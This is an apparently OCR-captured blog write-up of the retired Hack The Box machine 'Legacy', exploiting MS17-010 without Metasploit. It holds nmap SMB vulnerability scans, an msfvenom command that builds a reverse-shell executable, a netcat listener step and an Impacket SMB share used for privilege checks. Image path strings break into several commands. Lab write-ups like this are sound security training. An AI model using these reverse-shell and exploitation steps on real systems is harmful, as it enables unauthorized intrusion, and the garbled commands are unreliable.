Skip to content

Hack the box – Legacy without Metasploit

Legacy is a retired machine but since I wanted to do all the windows machines. the first one I did was legacy.

Tools used when exploiting legacy

  1. nmap
  2. Script from github
  3. msfvenom
  4. smbserver from Impacket
  5. whoami.exe


For the nmap used : nmap -sC -sV -Ofound SMB was opened, scanned smb using nmap again : nmap -v -script smb-vuln* -p 139,445

found 2 vulnerabilites insmb:

  1. ms08-067
  2. ms17-010

Exploiting ms17-010

For manually exploitingms17-010, have to first clone the following from github

git clone

after cloning, use msfvenom to generate an exe to get a reverse shell

msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=4444 EXITFUNC=thread -f exe -a x86 --platform windows -o exploit.exe

now we have the exploit generated. let’s transfer it and execute it.

setup netcat to listen. then send the exploit to execute. after execution will get a reverse shell.its a non administrative user.

Privilege escalation

for privilegeescalation. We will first set up the smbserver from impacket and mount it in /tmp so can be accessed via a windows machine

root@kali:/opt# /usr/share/doc/python3-impacket/examples/temp /usr/share/windows-binaries/

after setting up smbserver. will try to transfer whoami.exe to the windows machine.

after transferring the whoami.exe we got the NT AUTHORITY in the system.That’s all for legacy.

Published inHackinghacktheboxOSCP

Be First to Comment

Leave a Reply

Youremail address will not be published. Required fieldsare marked *

%d bloggers like this: